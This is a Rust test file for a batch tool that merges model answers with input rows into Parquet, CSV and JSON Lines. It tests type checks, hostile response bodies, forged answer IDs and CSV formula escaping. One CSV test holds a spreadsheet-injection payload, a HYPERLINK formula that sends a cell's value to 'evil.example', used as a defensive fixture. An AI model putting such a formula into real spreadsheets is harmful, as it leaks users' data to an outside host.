//! Answers joined with rows: types, errors, formats, and answers that attack the results.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow::array::{Array, ArrayRef, AsArray, Int64Array, RecordBatch, StringArray};
use arrow::datatypes::{DataType, Float64Type, Int64Type, UInt64Type};
use parquet::arrow::ArrowWriter;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use serde_json::{Value as Json, json};
use tympan_batch::limits::Limits;
use tympan_batch::results::{ResultsOptions, ResultsSummary, answers_name, write_results};
use tympan_core::{Kind, Prompt, Result};

use crate::support::{Job, fixture, runtime, ticket};

const TYPED: &str = "---
model: gpt-4o-mini
inputs:
  - {name: text, kind: string, required: true}
outputs:
  - {name: label, kind: string, required: true, enumValues: [good, bad]}
  - {name: score, kind: integer}
  - {name: share, kind: float}
  - {name: sure, kind: boolean}
  - {name: tags, kind: array, items: {kind: string}}
  - {name: place, kind: object, properties: [{name: city, kind: string}, {name: zip, kind: integer}]}
---
user:
{{ text }}";

const PLAIN: &str =
    "---\nmodel: gpt-4o-mini\ninputs:\n  - {name: text, kind: string, required: true}\n---\nuser:\n{{ text }}";

fn prompt(source: &str) -> Prompt {
    Prompt::from_prompty(source).expect("the prompt is valid")
}

/// A prepared job with answers.
struct Answered {
    job: Job,
    id: String,
    lines: Vec<(u64, String)>,
}

impl Answered {
    /// Prepares a job for the rows of a JSON Lines file.
    fn new(source: &str, rows: &[&str]) -> Self {
        let lines: String = rows.iter().map(|text| json!({ "text": text }).to_string() + "\n").collect();
        Self::of_file(prompt(source), "rows.jsonl", lines.as_bytes())
    }

    fn of_file(prompt: Prompt, name: &str, content: &[u8]) -> Self {
        let mut job = Job::new(prompt, &[]);
        let path = job.path(name);
        std::fs::write(&path, content).expect("writable");
        job.sources = vec![tympan_batch::rows::Source::new(path, None).expect("a known ending")];
        let id = job.prepare().expect("the job is prepared").job;
        Self { job, id, lines: Vec::new() }
    }

    fn line(&mut self, row: u64, attempt: u64, reply: &str) -> &mut Self {
        let line = format!("{{\"row\":{row},\"custom_id\":\"{}-{row}\",\"attempt\":{attempt},{reply}}}\n", self.id);
        self.lines.push((row, line));
        self
    }

    /// Adds the body of a chat completion with this text.
    fn text(&mut self, row: u64, text: &str) -> &mut Self {
        self.line(row, 1, &format!("\"body\":{}", chat(text)))
    }

    fn save(&self, number: u64) {
        let text: String = self.lines.iter().map(|(_, line)| line.as_str()).collect();
        std::fs::write(self.job.path(&answers_name(number)), text).expect("writable");
    }

    fn output(&self, name: &str) -> PathBuf {
        self.job.path(name)
    }

    fn write_with(&self, name: &str, change: impl FnOnce(&mut ResultsOptions)) -> Result<ResultsSummary> {
        let output = self.output(name);
        let mut options = ResultsOptions::for_path(&output).expect("a known ending");
        change(&mut options);
        let (prompt, sources) = (&self.job.prompt, &self.job.sources);
        write_results(&runtime(), prompt, sources, self.job.directory.path(), &output, &options, &|_| {})
    }

    fn write(&self, name: &str) -> ResultsSummary {
        self.save(1);
        self.write_with(name, |_| {}).expect("the results are written")
    }

    /// Writes the results as JSON Lines, and returns the rows.
    fn rows(&self) -> Vec<Json> {
        self.write("results.jsonl");
        self.job.lines("results.jsonl")
    }
}

fn chat(text: &str) -> Json {
    json!({
        "id": "c", "model": "gpt-4o-mini", "object": "chat.completion",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 7, "completion_tokens": 2, "total_tokens": 9},
    })
}

fn read_parquet(path: &Path) -> RecordBatch {
    let file = std::fs::File::open(path).expect("the file exists");
    let reader = ParquetRecordBatchReaderBuilder::try_new(file).expect("a Parquet file").with_batch_size(100_000);
    let batches: Vec<_> = reader.build().expect("readable").map(|batch| batch.expect("readable")).collect();
    arrow::compute::concat_batches(&batches[0].schema(), &batches).expect("the same columns")
}

const FULL: &str =
    r#"{"label":"good","score":-3,"share":0.5,"sure":true,"tags":["a","b"],"place":{"city":"Ærø","zip":5970}}"#;

#[test]
fn declared_outputs_are_typed_columns_beside_those_of_the_rows() {
    let mut job = Answered::new(TYPED, &["one", "two", "three"]);
    job.text(0, FULL).text(1, r#"{"label":"bad","tags":null}"#);
    let summary = job.write("results.parquet");
    assert_eq!((summary.rows, summary.answered, summary.missing), (3, 2, 1));
    assert_eq!((summary.input_tokens, summary.output_tokens), (14, 4));
    let table = read_parquet(&job.output("results.parquet"));
    let names: Vec<_> = table.schema().fields().iter().map(|field| field.name().clone()).collect();
    let expected = ["text", "label", "score", "share", "sure", "tags", "place"];
    let others = ["error", "finish_reason", "input_tokens", "output_tokens"];
    assert_eq!(names, [&expected[..], &others[..]].concat());
    let column = |name: &str| table.column_by_name(name).expect("the column exists").clone();
    assert_eq!(column("text").as_string::<i32>().iter().flatten().collect::<Vec<_>>(), ["one", "two", "three"]);
    assert_eq!(column("score").as_primitive::<Int64Type>().iter().collect::<Vec<_>>(), [Some(-3), None, None]);
    assert_eq!(column("share").as_primitive::<Float64Type>().iter().collect::<Vec<_>>(), [Some(0.5), None, None]);
    assert_eq!(column("sure").as_boolean().iter().collect::<Vec<_>>(), [Some(true), None, None]);
    let tags = column("tags");
    assert!(tags.is_null(1) && tags.is_null(2));
    assert_eq!(tags.as_list::<i32>().value(0).as_string::<i32>().iter().flatten().collect::<Vec<_>>(), ["a", "b"]);
    let place = column("place");
    assert_eq!(place.as_struct().column_by_name("zip").expect("zip").as_primitive::<Int64Type>().value(0), 5970);
    assert_eq!(column("error").as_string::<i32>().iter().collect::<Vec<_>>(), [None, None, Some("no answer")]);
    assert_eq!(column("finish_reason").as_string::<i32>().value(0), "stop");
    assert_eq!(column("input_tokens").as_primitive::<UInt64Type>().value(0), 7);
}

#[test]
fn an_answer_that_does_not_match_is_an_error_of_its_row() {
    let cases = [
        ("{\"label\":\"maybe\"}", "`label`: expected one of"),
        ("{\"label\":\"good\",\"score\":\"3\"}", "`score`: expected integer, found a string"),
        ("{\"label\":\"good\",\"score\":18446744073709551615}", "larger than a column of int64"),
        ("{\"label\":\"good\",\"score\":99999999999999999999999}", "`score`: expected integer"),
        ("{\"label\":\"good\",\"score\":1e999}", "expected JSON with the declared outputs, found text"),
        ("{\"label\":\"good\",\"share\":NaN}", "expected JSON with the declared outputs, found text"),
        ("{\"label\":\"good\",\"tags\":[\"a\",1]}", "`tags[1]`"),
        ("{\"label\":\"good\",\"place\":{\"zip\":[]}}", "`place.zip`"),
        ("{\"label\":\"good\",\"other\":1}", "`other` is not declared"),
        ("{}", "`label` is missing"),
        ("[]", "expected a map"),
        ("I think it is good.", "found text"),
        ("", "found text"),
    ];
    let texts: Vec<_> = cases.iter().map(|(text, _)| *text).collect();
    let mut job = Answered::new(TYPED, &texts);
    for (row, (text, _)) in cases.iter().enumerate() {
        job.text(row as u64, text);
    }
    let summary = job.write("results.parquet");
    assert_eq!((summary.rows, summary.mismatched), (cases.len() as u64, cases.len() as u64));
    for (row, (text, expected)) in job.rows().iter().zip(cases) {
        let error = row["error"].as_str().expect("an error");
        assert!(error.contains(expected), "{text}: {error}");
        assert_eq!((&row["label"], &row["input_tokens"]), (&Json::Null, &json!(7)), "{text}");
    }
}

#[test]
fn hostile_bodies_are_errors_of_their_rows() {
    let deep = "[".repeat(200_000) + &"]".repeat(200_000);
    let deep_text = json!("[".repeat(200_000)).to_string();
    let bodies = [
        deep.clone(),
        format!("{{\"choices\":[{{\"message\":{{\"content\":{deep}}}}}]}}"),
        format!("{{\"choices\":[{{\"message\":{{\"content\":{deep_text}}},\"finish_reason\":\"stop\"}}]}}"),
        "{}".to_owned(),
        "null".to_owned(),
        "1e999".to_owned(),
        "{\"choices\":[]}".to_owned(),
        "{\"error\":{\"message\":\"no \\u001b[2J quota\"}}".to_owned(),
        chat("").to_string().replace("\"completion_tokens\":2", "\"completion_tokens\":1e40"),
        "{\"choices\":[{\"message\":{\"content\":\"half".to_owned() + "\"}}]}",
    ];
    let mut job = Answered::new(TYPED, &vec!["x"; bodies.len() + 1]);
    for (row, body) in bodies.iter().enumerate() {
        job.line(row as u64, 1, &format!("\"body\":{body}"));
    }
    job.text(bodies.len() as u64, FULL);
    let rows = job.rows();
    assert_eq!(rows.len(), bodies.len() + 1);
    for (row, body) in rows.iter().zip(&bodies) {
        assert!(row["error"].is_string(), "{}: {row}", &body[..body.len().min(80)]);
    }
    assert_eq!(rows.last().expect("a row")["score"], -3, "the rows after them are not affected");
}

#[test]
fn answers_that_nobody_asked_for_are_counted_and_left_out() {
    let mut job = Answered::new(PLAIN, &["a", "b"]);
    job.text(0, "first");
    let own = job.id.clone();
    let foreign = |row: u64, id: &str| {
        (row, format!("{{\"row\":{row},\"custom_id\":{},\"attempt\":1,\"body\":{}}}\n", json!(id), chat("forged")))
    };
    job.lines.push(foreign(1, "other-1"));
    job.lines.push(foreign(1, &format!("{own}-01")));
    job.lines.push(foreign(1, &format!("{own}-0")));
    job.lines.push(foreign(7, &format!("{own}-7")));
    let summary = job.write("results.jsonl");
    assert_eq!((summary.unknown, summary.answered, summary.missing), (4, 1, 1));
    let rows = job.rows();
    assert_eq!((rows.len(), &rows[0]["answer"], &rows[1]["error"]), (2, &json!("first"), &json!("no answer")));
}

#[test]
fn rejected_rows_keep_their_place_and_their_reason() {
    let mut job = Answered::of_file(ticket(), "rows.csv", &std::fs::read(fixture("tickets.csv")).expect("readable"));
    for row in 0..6 {
        job.text(row, "{\"category\":\"billing\"}");
    }
    let summary = job.write("results.jsonl");
    assert_eq!((summary.rows, summary.answered, summary.rejected, summary.unknown), (6, 4, 2, 2));
    let rows = job.job.lines("results.jsonl");
    assert_eq!((&rows[0]["category"], &rows[0]["priority"]), (&json!("billing"), &json!("1")));
    assert!(rows[3]["error"].as_str().is_some_and(|error| error.contains("expected an integer")), "{}", rows[3]);
    assert_eq!(rows[3]["text"], "no priority", "the row is in the results");
    assert_eq!(rows[4]["error"], "expected 6 cells, as in the first line, found 2");
}

#[test]
fn a_later_attempt_replaces_an_error_and_never_an_answer() {
    let failed = "\"error\":{\"message\":\"overloaded\",\"code\":\"server_error\"}";
    let mut first = Answered::new(PLAIN, &["a", "b", "c", "d"]);
    first.line(0, 1, failed).text(1, "first").line(2, 1, failed).text(3, "same");
    first.save(1);
    first.lines.clear();
    first.line(0, 2, &format!("\"body\":{}", chat("second")));
    first.line(1, 2, failed);
    first.line(1, 3, &format!("\"body\":{}", chat("third")));
    first.line(2, 2, "\"error\":{\"message\":\"expired\"}");
    first.line(3, 2, &format!("\"body\":{}", chat("same")));
    first.save(2);
    let summary = first.write_with("results.jsonl", |_| {}).expect("written");
    assert_eq!((summary.answered, summary.failed, summary.conflicting), (3, 1, 1));
    let rows = first.job.lines("results.jsonl");
    let answers: Vec<_> = rows.iter().map(|row| row["answer"].as_str().unwrap_or_default()).collect();
    assert_eq!(answers, ["second", "first", "", "same"]);
    assert_eq!(rows[2]["error"], "expired");
}

#[test]
fn damaged_files_of_answers_are_errors_with_their_place() {
    let mut job = Answered::new(PLAIN, &["a", "b"]);
    job.text(1, "b").text(0, "a");
    job.save(1);
    let error = job.write_with("results.jsonl", |_| {}).expect_err("not in order");
    assert!(error.to_string().contains("answers-00001.jsonl`, line 2: expected a row after 1, found 0"), "{error}");
    std::fs::write(job.job.path(&answers_name(1)), "{\"row\":0,\"custom_id\":\"x").expect("writable");
    let error = job.write_with("results.jsonl", |_| {}).expect_err("half a line");
    assert!(error.to_string().contains("line 1: expected a JSON object"), "{error}");
    assert!(!job.output("results.jsonl").exists(), "no results are better than wrong ones");
}

#[test]
fn names_of_columns_do_not_collide() {
    let rows = "text,label,error\na,x,y\n";
    let mut job = Answered::of_file(prompt(TYPED), "rows.csv", rows.as_bytes());
    job.text(0, "{\"label\":\"good\"}");
    job.save(1);
    for name in ["results.parquet", "results.csv", "results.jsonl"] {
        let error = job.write_with(name, |_| {}).expect_err("a collision");
        assert_eq!(error.kind(), Kind::InvalidRows);
        assert!(error.to_string().contains("the rows already have a column `label`"), "{error}");
        assert!(error.help().is_some_and(|help| help.contains("--prefix result_")), "{error:?}");
    }
    job.write_with("results.jsonl", |options| options.prefix = "result_".to_owned()).expect("written");
    let row = job.job.lines("results.jsonl").remove(0);
    assert_eq!((&row["label"], &row["result_label"], &row["result_error"]), (&json!("x"), &json!("good"), &Json::Null));
}

#[test]
fn a_key_that_only_later_rows_have_is_not_overwritten() {
    let rows = "{\"text\":\"a\"}\n{\"text\":\"b\",\"answer\":\"mine\"}\n";
    let mut job = Answered::of_file(prompt(PLAIN), "rows.jsonl", rows.as_bytes());
    job.text(0, "x").text(1, "y");
    job.save(1);
    let error = job.write_with("results.jsonl", |_| {}).expect_err("a collision");
    assert!(error.to_string().contains("column `answer`"), "{error}");
}

#[test]
fn results_never_replace_the_rows() {
    let mut job = Answered::new(PLAIN, &["a"]);
    job.text(0, "x");
    job.save(1);
    let error = job.write_with("rows.jsonl", |_| {}).expect_err("the rows");
    assert!(error.to_string().contains("has the rows"), "{error}");
    assert_eq!(job.job.lines("rows.jsonl"), [json!({"text": "a"})]);
}

#[test]
fn csv_is_written_as_it_is_and_formulas_are_counted_and_escaped_on_request() {
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1)";
    let rows = format!("text,=cmd\n\"=1+1\",-5\nplain,{}\n", "@x");
    let mut job = Answered::of_file(prompt(PLAIN), "rows.csv", rows.as_bytes());
    job.text(0, formula).text(1, "a \"quoted\"\nanswer, with a comma");
    let summary = job.write("results.csv");
    assert_eq!(summary.formulas, 4);
    let text = std::fs::read_to_string(job.output("results.csv")).expect("readable");
    assert!(text.starts_with("text,=cmd,answer,error,"), "{text}");
    let quoted = "=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)";
    assert!(text.contains(&format!("=1+1,-5,\"{quoted}\"")), "{text}");

    let summary = job.write_with("results.csv", |options| options.escapes_formulas = true).expect("written");
    assert_eq!(summary.formulas, 4);
    let mut reader = csv::Reader::from_path(job.output("results.csv")).expect("a CSV file");
    assert_eq!(reader.headers().expect("a header").get(1), Some("'=cmd"));
    let records: Vec<_> = reader.records().map(|record| record.expect("a row")).collect();
    let cells: Vec<_> = records[0].iter().take(3).collect();
    assert_eq!(cells, ["'=1+1", "-5", &format!("'{formula}")]);
    assert_eq!(&records[1][2], "a \"quoted\"\nanswer, with a comma");
    assert_eq!((&records[1][1], &records[1][4]), ("'@x", "stop"));
}

#[test]
fn columns_of_parquet_keep_their_types_in_all_formats() {
    let directory = tempfile::TempDir::new().expect("a temporary directory");
    let path = directory.path().join("rows.parquet");
    let texts: ArrayRef = Arc::new(StringArray::from(vec![Some("a"), Some("b")]));
    let numbers: ArrayRef = Arc::new(Int64Array::from(vec![Some(1), None]));
    let lists: ArrayRef = Arc::new(arrow::array::ListArray::from_iter_primitive::<Float64Type, _, _>(vec![
        Some(vec![Some(0.5), Some(f64::NAN)]),
        None,
    ]));
    let dates: ArrayRef = Arc::new(arrow::array::Date32Array::from(vec![Some(0), None]));
    let table = RecordBatch::try_from_iter_with_nullable([
        ("text", texts, true),
        ("number", numbers, true),
        ("list", lists, true),
        ("date", dates, true),
    ])
    .expect("a table");
    let file = std::fs::File::create(&path).expect("writable");
    let mut writer = ArrowWriter::try_new(file, table.schema(), None).expect("a writer");
    writer.write(&table).expect("writable");
    writer.close().expect("writable");
    let mut job = Answered::of_file(prompt(PLAIN), "rows.parquet", &std::fs::read(&path).expect("readable"));
    job.text(0, "x").text(1, "y");
    job.write("results.parquet");
    let results = read_parquet(&job.output("results.parquet"));
    let kinds: Vec<_> = results.schema().fields().iter().take(4).map(|field| field.data_type().clone()).collect();
    assert_eq!(kinds[0], DataType::Utf8, "no views, which other programs do not read");
    assert_eq!((&kinds[1], &kinds[3]), (&DataType::Int64, &DataType::Date32));
    assert!(matches!(kinds[2], DataType::List(_)));
    job.write("results.csv");
    let text = std::fs::read_to_string(job.output("results.csv")).expect("readable");
    assert!(text.contains("a,1,\"[0.5, NaN]\",1970-01-01,x,,stop,7,2\n"), "{text}");
    assert!(text.contains("b,,,,y,,stop,7,2\n"), "{text}");
    job.write("results.jsonl");
    let rows = job.job.lines("results.jsonl");
    assert_eq!(
        rows[1],
        json!({"text":"b","number":null,"list":null,"date":null,"answer":"y","error":null,
        "finish_reason":"stop","input_tokens":7,"output_tokens":2})
    );
}

#[test]
fn keys_of_json_lines_become_columns() {
    let rows =
        "{\"text\":\"a\",\"n\":1,\"x\":1,\"deep\":[1]}\n{\"text\":\"b\",\"n\":2.5,\"x\":\"one\",\"late\":true}\n";
    let mut job = Answered::of_file(prompt(PLAIN), "rows.jsonl", rows.as_bytes());
    job.text(0, "x").text(1, "y");
    job.write("results.parquet");
    let results = read_parquet(&job.output("results.parquet"));
    let kinds: Vec<_> =
        results.schema().fields().iter().map(|field| (field.name().clone(), field.data_type().clone())).collect();
    let kinds: Vec<_> = kinds.iter().map(|(name, kind)| (name.as_str(), kind)).take(5).collect();
    let expected = [
        ("text", &DataType::Utf8),
        ("n", &DataType::Float64),
        ("x", &DataType::Utf8),
        ("deep", &DataType::Utf8),
        ("late", &DataType::Boolean),
    ];
    assert_eq!(kinds, expected);
    let texts: Vec<_> = results.column(2).as_string::<i32>().iter().flatten().collect();
    assert_eq!(texts, ["1", "one"]);
}

#[test]
fn embeddings_are_lists_of_numbers() {
    let source = PLAIN.replace("model: gpt-4o-mini", "model: {id: text-embedding-3-small, apiType: embedding}");
    let mut job = Answered::new(&source, &["a", "b"]);
    job.line(0, 1, "\"body\":{\"data\":[{\"index\":0,\"embedding\":[0.25,-1]}],\"usage\":{\"prompt_tokens\":1}}");
    job.line(1, 1, "\"body\":{\"data\":[]}");
    job.write("results.parquet");
    let results = read_parquet(&job.output("results.parquet"));
    let vector = results.column_by_name("embedding").expect("a column").as_list::<i32>().value(0);
    assert_eq!(vector.as_primitive::<Float64Type>().values(), &[0.25, -1.0]);
    assert!(results.column_by_name("error").expect("a column").is_valid(1));
}

#[test]
fn many_rows_in_many_files_keep_their_order() {
    let count = 10_000_u64;
    let rows: String = (0..count).map(|row| format!("{{\"text\":\"t{row}\"}}\n")).collect();
    let mut job = Job::new(prompt(PLAIN), &[]);
    std::fs::write(job.path("rows.jsonl"), rows).expect("writable");
    job.sources = vec![tympan_batch::rows::Source::new(job.path("rows.jsonl"), None).expect("a known ending")];
    job.options.limits = Some(Limits { requests: 1000, bytes: u64::MAX, tokens: None });
    let prepared = job.prepare().expect("the job is prepared");
    let mut answered = Answered { job, id: prepared.job, lines: Vec::new() };
    for number in 1..=11 {
        answered.lines.clear();
        let first = (number - 1) * 1000;
        for row in (first..(first + 1000).min(count)).rev().step_by(2).collect::<Vec<_>>().into_iter().rev() {
            answered.text(row, &format!("answer {row}"));
        }
        answered.save(number);
    }
    let summary = answered.write_with("results.jsonl", |_| {}).expect("written");
    assert_eq!((summary.rows, summary.answered, summary.missing), (count, count / 2, count / 2));
    for (row, result) in answered.job.lines("results.jsonl").iter().enumerate() {
        let expected = if row % 2 == 1 { json!(format!("answer {row}")) } else { Json::Null };
        assert_eq!((&result["text"], &result["answer"]), (&json!(format!("t{row}")), &expected));
    }
}

#[test]
fn another_prompt_cannot_read_the_answers() {
    let mut job = Answered::new(PLAIN, &["a"]);
    job.text(0, "x");
    job.save(1);
    job.job.prompt = prompt(TYPED);
    let error = job.write_with("results.jsonl", |_| {}).expect_err("another prompt");
    assert!(error.to_string().contains("was prepared with another prompt"), "{error}");
}
